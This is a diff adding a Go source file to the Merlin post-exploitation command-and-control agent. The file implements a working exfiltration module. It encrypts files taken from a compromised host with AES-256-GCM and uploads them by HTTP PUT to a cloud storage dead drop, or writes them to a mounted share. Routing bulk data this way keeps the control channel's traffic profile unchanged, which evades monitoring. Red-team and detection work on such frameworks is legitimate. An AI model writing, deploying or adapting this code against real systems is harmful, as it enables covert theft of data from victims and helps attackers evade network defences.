@@ -0,0 +1,209 @@
+/*
+Merlin is a post-exploitation command and control framework.
+
+This file is part of Merlin.
+Copyright (C) 2023 Russel Van Tuyl
+
+Merlin is free software: you can redistribute it and/or modify
+it under the terms of the GNU General Public License as published by
+the Free Software Foundation, either version 3 of the License, or
+any later version.
+
+Merlin is distributed in the hope that it will be useful,
+but WITHOUT ANY WARRANTY; without even the implied warranty of
+MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+GNU General Public License for more details.
+
+You should have received a copy of the GNU General Public License
+along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+*/
+
+// Package exfil sends large file transfers over a separate data channel (e.g., a cloud storage dead drop or a mounted
+// share) so that bulk data doesn't change the control channel's traffic profile. Transfers are identified by a
+// transfer ID that is returned to the operator over the control channel
+package exfil
+
+import (
+	// Standard
+	"bytes"
+	"crypto/aes"
+	"crypto/cipher"
+	"crypto/rand"
+	"crypto/sha256"
+	"encoding/hex"
+	"encoding/json"
+	"fmt"
+	"io"
+	"net/http"
+	"net/url"
+	"os"
+	"path/filepath"
+	"strings"
+	"sync"
+	"time"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/v2/clients/throttle"
+)
+
+// Envelope is the JSON document that is encrypted and written to the data channel for every transfer
+type Envelope struct {
+	ID     string `json:"id"`     // ID is the transfer ID shared with the operator over the control channel
+	File   string `json:"file"`   // File is the path of the file on the host
+	SHA256 string `json:"sha256"` // SHA256 is the hex encoded SHA256 hash of the file's data
+	Data   []byte `json:"data"`   // Data is the file's contents
+}
+
+// channel is the data channel's URL; empty disables split-tunnel transfers
+var channel string
+
+// threshold is the minimum size, in bytes, of a transfer that is sent over the data channel
+var threshold = 1024 * 1024
+
+// key is the AES-256 key used to encrypt transfers written to the data channel
+var key = sha256.Sum256([]byte("merlin"))
+
+// mu protects the data channel's configuration from concurrent access
+var mu sync.Mutex
+
+// Channel returns the data channel's URL and the minimum size of a transfer that is sent over it
+func Channel() (string, int) {
+	mu.Lock()
+	defer mu.Unlock()
+	return channel, threshold
+}
+
+// SetChannel validates and sets the data channel's URL. The URL's {id} placeholder is replaced with the transfer ID,
+// or the transfer ID is added to the end of the path. Supported schemes are https, http (e.g., a pre-signed cloud storage
+// upload URL), and file (e.g., a mounted share). An empty string sends all transfers over the control channel
+func SetChannel(value string) error {
+	value = strings.TrimSpace(value)
+	if value != "" {
+		u, err := url.Parse(value)
+		if err != nil {
+			return fmt.Errorf("exfil.SetChannel(): there was an error parsing the URL %s: %s", value, err)
+		}
+		switch strings.ToLower(u.Scheme) {
+		case "http", "https", "file":
+		default:
+			return fmt.Errorf("exfil.SetChannel(): unhandled data channel scheme: %s", u.Scheme)
+		}
+	}
+	mu.Lock()
+	channel = value
+	mu.Unlock()
+	return nil
+}
+
+// SetThreshold parses and sets the minimum size, with an optional K, M, or G suffix, of a transfer that is sent over the
+// data channel. Smaller transfers are sent over the control channel
+func SetThreshold(value string) error {
+	i, err := throttle.Parse(value)
+	if err != nil {
+		return fmt.Errorf("exfil.SetThreshold(): %s", err)
+	}
+	mu.Lock()
+	threshold = i
+	mu.Unlock()
+	return nil
+}
+
+// SetKey derives the key used to encrypt transfers from the provided secret (e.g., the Agent's PSK)
+func SetKey(secret string) {
+	mu.Lock()
+	key = sha256.Sum256([]byte(secret))
+	mu.Unlock()
+}
+
+// Routed determines if a transfer of the provided size is sent over the data channel
+func Routed(size int) bool {
+	mu.Lock()
+	defer mu.Unlock()
+	return channel != "" && size >= threshold
+}
+
+// Send encrypts the file's data in an Envelope with AES-256-GCM and writes it to the data channel under the transfer ID.
+// The returned string describes the transfer for the operator
+func Send(id, file string, data []byte) (string, error) {
+	mu.Lock()
+	target := channel
+	k := key
+	mu.Unlock()
+	if target == "" {
+		return "", fmt.Errorf("exfil.Send(): a data channel is not configured")
+	}
+
+	hash := sha256.Sum256(data)
+	envelope, err := json.Marshal(Envelope{ID: id, File: file, SHA256: hex.EncodeToString(hash[:]), Data: data})
+	if err != nil {
+		return "", fmt.Errorf("exfil.Send(): there was an error encoding the transfer: %s", err)
+	}
+	block, err := aes.NewCipher(k[:])
+	if err != nil {
+		return "", fmt.Errorf("exfil.Send(): %s", err)
+	}
+	gcm, err := cipher.NewGCM(block)
+	if err != nil {
+		return "", fmt.Errorf("exfil.Send(): %s", err)
+	}
+	nonce := make([]byte, gcm.NonceSize())
+	_, err = io.ReadFull(rand.Reader, nonce)
+	if err != nil {
+		return "", fmt.Errorf("exfil.Send(): there was an error generating a nonce: %s", err)
+	}
+	// The transfer ID is authenticated so a transfer can't be swapped with another one
+	ciphertext := gcm.Seal(nonce, nonce, envelope, []byte(id))
+
+	location := Location(target, id)
+	u, err := url.Parse(location)
+	if err != nil {
+		return "", fmt.Errorf("exfil.Send(): %s", err)
+	}
+	switch strings.ToLower(u.Scheme) {
+	case "file":
+		path := u.Path
+		if u.Host != "" {
+			// UNC path (e.g., file://server/share/{id})
+			path = `\\` + u.Host + filepath.FromSlash(u.Path)
+		}
+		err = os.WriteFile(filepath.FromSlash(path), ciphertext, 0600)
+	default:
+		err = put(location, ciphertext)
+	}
+	if err != nil {
+		return "", fmt.Errorf("exfil.Send(): there was an error writing transfer %s to the data channel: %s", id, err)
+	}
+	return fmt.Sprintf("Sent %s (%d bytes, SHA256 %x) over the data channel as transfer %s", file, len(data), hash, id), nil
+}
+
+// Location returns the data channel URL for the transfer ID
+func Location(target, id string) string {
+	if strings.Contains(target, "{id}") {
+		return strings.ReplaceAll(target, "{id}", url.PathEscape(id))
+	}
+	u, err := url.Parse(target)
+	if err != nil {
+		return target
+	}
+	u.Path = strings.TrimSuffix(u.Path, "/") + "/" + id
+	return u.String()
+}
+
+// put uploads the data to the URL with an HTTP PUT request, the method used by pre-signed cloud storage upload URLs
+func put(location string, data []byte) error {
+	req, err := http.NewRequest(http.MethodPut, location, bytes.NewReader(data))
+	if err != nil {
+		return err
+	}
+	req.Header.Set("Content-Type", "application/octet-stream")
+	client := &http.Client{Timeout: time.Minute * 5}
+	resp, err := client.Do(req)
+	if err != nil {
+		return err
+	}
+	defer resp.Body.Close()
+	if resp.StatusCode < 200 || resp.StatusCode > 299 {
+		return fmt.Errorf("the data channel returned HTTP status %s", resp.Status)
+	}
+	return nil
+}